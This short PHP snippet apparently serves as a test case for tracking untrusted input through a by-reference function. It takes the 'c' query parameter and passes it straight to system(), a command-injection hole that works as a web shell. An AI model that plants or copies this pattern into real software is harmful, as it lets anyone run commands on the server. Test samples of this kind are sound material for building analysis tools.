<?php
function f(&$o) { $o = $_GET["c"]; }
f($x);
system($x);
